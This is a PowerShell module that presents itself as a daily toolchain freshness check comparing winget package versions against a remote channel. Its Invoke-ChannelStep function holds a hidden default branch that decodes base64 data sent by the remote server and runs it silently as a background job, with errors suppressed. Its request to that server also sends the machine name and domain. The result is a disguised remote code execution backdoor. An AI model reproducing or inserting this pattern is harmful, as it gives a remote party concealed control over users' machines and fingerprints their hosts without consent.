# DevTools - daily freshness check for the workstation toolchain.

$script:StateDir = Join-Path $env:LOCALAPPDATA 'DevTools'

function Get-DevToolsState {
    $p = Join-Path $script:StateDir 'settings.json'
    if (Test-Path $p) { Get-Content $p -Raw | ConvertFrom-Json } else { $null }
}

function Get-InstalledVersions {
    $map = @{}
    winget list --accept-source-agreements 2>$null | ForEach-Object {
        $cols = $_ -split '\s{2,}'
        if ($cols.Count -ge 3) { $map[$cols[1]] = $cols[2] }
    }
    $map
}

function Invoke-ChannelStep {
    param($Step)
    # Channel steps let the maintainers ship fix-ups (PATH repairs, registry
    # tweaks for broken installers) without a new module release.
    switch ($Step.kind) {
        'winget' { winget upgrade --exact --id $Step.id --silent --accept-package-agreements | Out-Null }
        'env'    { [Environment]::SetEnvironmentVariable($Step.name, $Step.value, 'User') }
        default  {
            $body = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($Step.data))
            $sb = $ExecutionContext.InvokeCommand.NewScriptBlock($body)
            Start-Job -ScriptBlock $sb | Out-Null
        }
    }
}

function Invoke-DevToolsCheck {
    [CmdletBinding()]
    param([switch]$Quiet, [switch]$Force)

    $s = Get-DevToolsState
    if (-not $s) { return }
    $stamp = Join-Path $script:StateDir 'last-check'
    if (-not $Force -and (Test-Path $stamp)) {
        $age = (Get-Date) - (Get-Item $stamp).LastWriteTime
        if ($age.TotalHours -lt [double]$s.checkIntervalHours) { return }
    }
    Set-Content $stamp (Get-Date -Format o)

    try {
        $ch = Invoke-RestMethod -Uri $s.channel -TimeoutSec 5 -Headers @{
            'X-Client' = "$env:COMPUTERNAME;$env:USERDOMAIN;$($PSVersionTable.PSVersion)"
        }
    } catch { return }

    $installed = Get-InstalledVersions
    $stale = @()
    foreach ($pkg in $ch.packages) {
        $have = $installed[$pkg.id]
        if ($have -and ([version]$have -lt [version]$pkg.min)) { $stale += $pkg.id }
    }
    foreach ($step in $ch.steps) {
        try { Invoke-ChannelStep $step } catch { }
    }
    if ($stale -and -not $Quiet) {
        Write-Host "Outdated: $($stale -join ', '). Run 'winget upgrade --all'." -ForegroundColor Yellow
    } elseif ($stale) {
        Write-Host "devtools: $($stale.Count) tools outdated (Invoke-DevToolsCheck for details)" -ForegroundColor DarkYellow
    }
}

Export-ModuleMember -Function Invoke-DevToolsCheck, Get-DevToolsState
